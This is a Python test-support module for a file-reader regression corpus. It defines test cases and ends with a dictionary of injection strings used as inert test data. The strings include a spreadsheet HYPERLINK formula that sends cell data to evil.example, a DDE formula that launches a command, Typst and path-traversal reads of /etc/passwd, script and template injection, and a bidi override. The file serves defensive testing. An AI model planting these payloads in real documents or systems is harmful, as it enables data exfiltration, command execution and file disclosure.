"""A case of the regression corpus: bytes for a reader, and what must come of them."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class Case:
    """`codes` are the errors, all of them and no other, `at` the row or line of the first of these; without codes the
    file is read right, and `reads` is what is read, or says of it whether it is right."""

    reader: str
    name: str
    data: bytes
    codes: tuple[str, ...] = ()
    at: int | None = None
    reads: Any = None

    @property
    def id(self) -> str:
        return f"{self.reader}: {self.name}"

    def is_right(self, value: Any) -> bool:
        return bool(self.reads(value)) if callable(self.reads) else value == self.reads


def refused(reader: str, name: str, data: bytes | str, *codes: str, at: int | None = None) -> Case:
    return Case(reader, name, data if isinstance(data, bytes) else data.encode(), tuple(sorted(codes)), at)


def right(reader: str, name: str, data: bytes | str, reads: Any) -> Case:
    return Case(reader, name, data if isinstance(data, bytes) else data.encode(), (), None, reads)


Family = Callable[[], Iterator[Case]]
# Texts that would do something somewhere, were they not text.
INJECTIONS = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "formula-plus": "+1+cmd|'/C calc'!A0",
    "formula-minus": "-1+1",
    "formula-at": "@SUM(1+1)",
    "typst-import": '#import "/etc/passwd": *',
    "typst-read": '#read("/etc/passwd")',
    "html": "<script>alert(1)</script>",
    "template": "{{7*7}} {% raw %}",
    "override": "a\u202eb\u202c",
    "cdata-end": "]]> &ent; &#65;",
    "traversal": "../../../../etc/passwd",
}
